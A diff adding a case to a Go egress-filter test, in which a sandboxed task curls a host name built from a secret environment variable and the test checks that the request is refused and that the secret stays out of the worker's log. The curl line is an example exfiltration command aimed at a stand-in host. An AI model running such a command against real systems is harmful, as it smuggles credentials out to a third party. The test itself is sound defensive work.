@@ -52,6 +52,17 @@ func TestBundledEgress(t *testing.T) {
 	if stdout != "403" || hits.Load() != 1 {
 		t.Errorf("a task without allow_hosts got %q (server hits %d), want 403 and no request", stdout, hits.Load())
 	}
+	// An agent that spells an env value into a host name: refused, and
+	// the name stays out of the worker's log (its result keeps it).
+	const secret = "sk-live-9f3e1c0d"
+	stdout, stderr, _ = s.enqueue("--image", "alpine:3", "--no-commit", "--env", "API_KEY="+secret, "--wait", "--", "sh", "-c",
+		`curl -s -o /dev/null -w "%{http_code}" "http://$API_KEY.denied.invalid/"`)
+	if stdout != "403" || !strings.Contains(stderr, secret+".denied.invalid:80 refused") {
+		t.Errorf("the agent's request for $API_KEY.denied.invalid got %q, stderr %q; want 403 and the name in the record", stdout, stderr)
+	}
+	if strings.Contains(w.logs.String(), secret) {
+		t.Errorf("the env value is in the worker's log:\n%s", w.logs)
+	}
 }
 
 // TestEgressDeny: a range the operator denies with -egress-deny stays
